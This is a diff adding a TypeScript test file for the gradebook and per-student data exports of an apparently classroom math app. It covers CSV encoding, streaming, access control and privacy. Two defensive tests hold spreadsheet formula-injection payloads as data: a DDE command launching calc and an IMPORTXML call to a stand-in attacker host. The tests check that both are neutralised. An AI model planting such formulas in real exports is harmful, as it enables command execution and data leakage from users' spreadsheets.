@@ -1,0 +1,270 @@
+import { parse } from 'csv-parse/sync';
+import { csvStream } from '@/lib/data/export/csv';
+import { exportGradebook, GRADEBOOK_COLUMNS } from '@/lib/data/export/gradebook';
+import { exportStudent, STUDENT_RECORDS } from '@/lib/data/export/student-record';
+import { setFormulaLevel } from '@/lib/data/student/commands';
+import { completeTask } from '@/lib/data/week/commands';
+import { fromMixed } from '@/lib/domain/fractions';
+import { STEP_KEYS, stepTitle } from '@/lib/domain/positions';
+import { timestampFromDate } from '@/lib/domain/timestamp';
+import {
+  allCollections,
+  auditLog,
+  leagueStudents,
+  studentGraphs,
+  studentProfiles,
+  studentWeeklyProgress,
+} from '@/lib/store/collections';
+import { sampleDocument } from '@/lib/testing/sample-document';
+import { TEST_NOW, TEST_SEASON } from '@/lib/testing/services';
+import { changeMeta, RIGHT_ANSWERS } from '@/lib/testing/student-week';
+import { addStudent, installTwoClasses, LEAGUE, OTHER_LEAGUE, type TwoClasses, tryStep } from '@/lib/testing/two-classes';
+
+let test: TwoClasses;
+beforeEach(async () => {
+  test = await installTwoClasses();
+});
+afterEach(() => test.dispose());
+
+async function csvText(rows: Parameters<typeof csvStream>[0]): Promise<string> {
+  // Not through text(), which swallows the byte order mark.
+  return Buffer.from(await new Response(csvStream(rows)).arrayBuffer()).toString('utf8');
+}
+
+async function* listed<T>(list: readonly T[]): AsyncGenerator<T> {
+  yield* list;
+}
+
+describe('a CSV file', () => {
+  it('begins with a byte order mark, has CRLF, and numbers without quotes', async () => {
+    const text = await csvText(
+      listed([
+        ['Name', 'Points'],
+        ['Zoë "Zed", Q.', -3],
+        [null, 2.5],
+      ]),
+    );
+    expect(text).toBe('\uFEFFName,Points\r\n"Zoë ""Zed"", Q.",-3\r\n,2.5\r\n');
+  });
+
+  it('hands no formula to a spreadsheet', async () => {
+    const text = await csvText(listed([['=1+1', '@x', '+1', '-1+1', '\tx', '-2 3/8', -4, "=cmd|' /C calc'!A0"]]));
+    const [row] = parse(text, { bom: true }) as string[][];
+    expect(row).toEqual(["'=1+1", "'@x", "'+1", "'-1+1", "'\tx", '-2 3/8', '-4', "'=cmd|' /C calc'!A0"]);
+  });
+
+  it('asks for no row before the ones before it were taken, and stops when the reader goes', async () => {
+    let made = 0;
+    let closed = false;
+    async function* rows() {
+      try {
+        for (;;) {
+          made += 1;
+          yield [made, 'x'.repeat(1_000)];
+        }
+      } finally {
+        closed = true;
+      }
+    }
+    const reader = csvStream(rows()).getReader();
+    await reader.read();
+    await new Promise((resolve) => setImmediate(resolve));
+    expect(made).toBeLessThan(200);
+    await reader.cancel();
+    await new Promise((resolve) => setImmediate(resolve));
+    expect(closed).toBe(true);
+  });
+
+  it('breaks off when a row cannot be read, so that it never looks whole', async () => {
+    async function* rows() {
+      yield ['Name'];
+      throw new Error('The store has gone away.');
+    }
+    await expect(csvText(rows())).rejects.toThrow();
+  });
+});
+
+describe('the gradebook of a season', () => {
+  const gradebook = async (): Promise<Record<string, string>[]> =>
+    parse(await csvText(await exportGradebook(test.teacher, LEAGUE)), { bom: true, columns: true });
+
+  it('has a line for each student and week, with the nine answers exact and decimal', async () => {
+    await tryStep(test.kim, 'RB2', '5');
+    for (const key of STEP_KEYS) await tryStep(test.kim, key, RIGHT_ANSWERS[key]);
+    await addStudent(test, 'Ada');
+    const rows = await gradebook();
+    expect(rows.map(({ Student, Week }) => `${Student} ${Week}`)).toEqual([
+      ...[1, 2, 3, 4, 5, 6].map((week) => `Ada L. ${week}`),
+      ...[1, 2, 3, 4, 5, 6].map((week) => `Kim L. ${week}`),
+    ]);
+    const [progress] = await test.store.query(studentWeeklyProgress, {});
+    const last = rows.at(-1) ?? {};
+    expect(last).toMatchObject({
+      'Formula level': '1',
+      'Steps right': '9',
+      'Running Back 2 tries': '2',
+      'Running Back 2 points': '-0 3/10',
+      'Running Back 2 points (decimal)': '-0.3',
+      'Team points': '125 17/20',
+      'Team points (decimal)': '125.85',
+      'MVP points of the week': '4',
+      'MVP points of the season': '4',
+    });
+    for (const [index, key] of STEP_KEYS.entries()) {
+      const answer = progress?.steps[index]?.answer;
+      if (!answer) throw new Error('Every step is right.');
+      expect(Number(last[`${stepTitle(key)} points (decimal)`])).toBeCloseTo(fromMixed(answer).valueOf(), 4);
+      expect(last[`${stepTitle(key)} tries`]).toBe(String(progress?.steps[index]?.attempts));
+    }
+    expect(rows[0]).toMatchObject({ Week: '1', 'Steps right': '0', 'Quarterback tries': '0', 'Quarterback points': '' });
+  });
+
+  it('has the times of the tasks on the school’s clock, and which were late', async () => {
+    await completeTask(test.kim, { week: 6, task: 1 });
+    test.setNow(new Date('2023-10-20T01:05:00Z'));
+    await completeTask(test.kim, { week: 6, task: 4 });
+    expect((await gradebook()).at(-1)).toMatchObject({
+      'Check Box Scores': '2023-10-18 11:00',
+      'Check Box Scores late': 'in time',
+      Leaderboards: '2023-10-19 21:05',
+      'Leaderboards late': 'late',
+      'Set Line-Up': '',
+      'Set Line-Up late': '',
+    });
+  });
+
+  it('runs nothing that stands in a name', async () => {
+    await test.store.merge(studentProfiles, `${TEST_SEASON}_${test.kim.accountId}`, { teamName: '=IMPORTXML("//evil.example")' });
+    expect((await gradebook())[0]?.Team).toBe('\'=IMPORTXML("//evil.example")');
+  });
+
+  it('of thirty students and eighteen weeks reads one student at a time', async () => {
+    await changeMeta(test.store, { currentWeek: 18 });
+    for (let index = 0; index < 29; index += 1) {
+      await test.store.create(studentProfiles, {
+        id: `${TEST_SEASON}_s${index}`,
+        studentId: `s${index}`,
+        season: TEST_SEASON,
+        leagueId: LEAGUE,
+        mvpPoints: 0,
+        createdAt: timestampFromDate(TEST_NOW),
+        firstName: `Student ${String.fromCharCode(65 + (index % 26))}`,
+        lastInitial: '',
+      });
+    }
+    const query = jest.spyOn(test.store, 'query');
+    const rows = (await exportGradebook(test.teacher, LEAGUE))[Symbol.asyncIterator]();
+    for (let count = 0; count < 20; count += 1) await rows.next();
+    // The class, and twice two for the second student's first week.
+    expect(
+      query.mock.calls.map(([collection]) => collection.definition.name).filter((name) => name !== 'teacherProfiles'),
+    ).toEqual([
+      'studentProfiles',
+      ...['studentWeeklyProgress', 'studentWeeklyTasks', 'studentWeeklyProgress', 'studentWeeklyTasks'],
+    ]);
+    let lines = 20;
+    while (!(await rows.next()).done) lines += 1;
+    expect(lines).toBe(1 + 30 * 18);
+    expect(query.mock.calls.length).toBeLessThanOrEqual(2 + 30 * 2);
+  });
+
+  it('is the own teacher’s alone', async () => {
+    for (const [, viewer, code] of test.refused()) {
+      await expect(exportGradebook(viewer, LEAGUE)).rejects.toMatchObject({ code });
+    }
+    await expect(exportGradebook(test.teacher, OTHER_LEAGUE)).rejects.toMatchObject({ code: 'not-found' });
+    expect(new Set(GRADEBOOK_COLUMNS).size).toBe(GRADEBOOK_COLUMNS.length);
+  });
+});
+
+type Exported = {
+  studentId: string;
+  account: unknown;
+  records: Record<string, Record<string, unknown>[]>;
+  images: Record<string, unknown>;
+};
+
+describe('everything about one student', () => {
+  async function exported(): Promise<Exported> {
+    let text = '';
+    for await (const part of await exportStudent(test.teacher, LEAGUE, test.kim.accountId)) text += part;
+    return JSON.parse(text);
+  }
+
+  /** The fields that name a person, in whatever collection. */
+  const PERSON_FIELDS = ['studentId', 'userId', 'accountId', 'actorId'];
+
+  it('names every collection in which a student can be', () => {
+    const named = new Set(STUDENT_RECORDS.map(({ collection, person }) => `${collection.definition.name}.${person}`));
+    const missing = allCollections.flatMap(({ definition }) =>
+      Object.keys((definition.schema as unknown as { shape: object }).shape)
+        .filter((field) => PERSON_FIELDS.includes(field))
+        .map((field) => `${definition.name}.${field}`)
+        .filter((name) => !named.has(name)),
+    );
+    expect(missing).toEqual([]);
+  });
+
+  it('holds a document of each of them, and none of anybody else', async () => {
+    const own = STUDENT_RECORDS.filter(({ person }) => person !== 'id');
+    for (const [index, { collection, person }] of own.entries()) {
+      for (const [who, id] of [
+        ['own', test.kim.accountId],
+        ['foreign', test.stranger.accountId],
+      ]) {
+        await test.store.set(collection, {
+          ...sampleDocument(collection, 'sample'),
+          id: `${who}-${index}`,
+          [person]: id,
+        } as never);
+      }
+    }
+    await test.store.set(leagueStudents(LEAGUE), { id: test.kim.accountId, createdAt: timestampFromDate(TEST_NOW) });
+    const { records } = await exported();
+    for (const [index, { collection }] of own.entries()) {
+      const { name } = collection.definition;
+      const ids = records[name]?.map(({ id }) => id);
+      if (name === 'sessions') expect(records[name]?.length).toBeGreaterThanOrEqual(1);
+      else expect({ name, ids }).toEqual({ name, ids: expect.arrayContaining([`own-${index}`]) });
+    }
+    expect(JSON.stringify(records)).not.toContain('foreign-');
+    expect(JSON.stringify(records)).not.toContain(test.stranger.accountId);
+    expect(records['leagues/students']).toMatchObject([{ leagueId: LEAGUE, id: test.kim.accountId }]);
+  });
+
+  it('holds every try as it is stored, the account’s address and what the teacher changed, and no key to a session', async () => {
+    const account = await test.services.identity.createAccount({ email: 'real@school.org', password: 'seven green kites' });
+    if (account.status !== 'created') throw new Error('The address is free.');
+    await tryStep(test.kim, 'QB', '1 1/2');
+    await setFormulaLevel(test.teacher, { leagueId: LEAGUE, studentId: test.kim.accountId, formulaLevel: 2 });
+    const { records, studentId } = await exported();
+    expect(studentId).toBe(test.kim.accountId);
+    expect(records.studentPlayerScoreAttempts).toMatchObject([{ typed: { whole: '1 1/2' }, correct: false }]);
+    expect(records['auditLog about this student']).toMatchObject(
+      expect.arrayContaining([expect.objectContaining({ action: 'student.formula-level-2' })]),
+    );
+    expect(JSON.stringify(records)).not.toContain(test.kim.sessionId);
+  });
+
+  it('holds the pictures of the graphs', async () => {
+    await test.store.create(studentGraphs, {
+      id: 'graph-1',
+      studentId: test.kim.accountId,
+      leagueId: LEAGUE,
+      week: 6,
+      season: TEST_SEASON,
+    });
+    await test.services.files.put('user_graphs', 'graph-1', { bytes: new Uint8Array([1, 2, 3]), contentType: 'image/png' });
+    expect((await exported()).images).toEqual({ 'graph-1': { contentType: 'image/png', base64: 'AQID' } });
+  });
+
+  it('is the own teacher’s alone, and it is kept who asked', async () => {
+    for (const [, viewer, code] of test.refused()) {
+      await expect(exportStudent(viewer, LEAGUE, test.kim.accountId)).rejects.toMatchObject({ code });
+    }
+    await expect(exportStudent(test.teacher, LEAGUE, test.stranger.accountId)).rejects.toMatchObject({ code: 'not-found' });
+    await exported();
+    const done = await test.store.query(auditLog, { where: [{ field: 'outcome', op: '==', value: 'done' }] });
+    expect(done).toMatchObject([{ action: 'student.export', actorId: test.teacher.accountId, target: test.kim.accountId }]);
+  });
+});
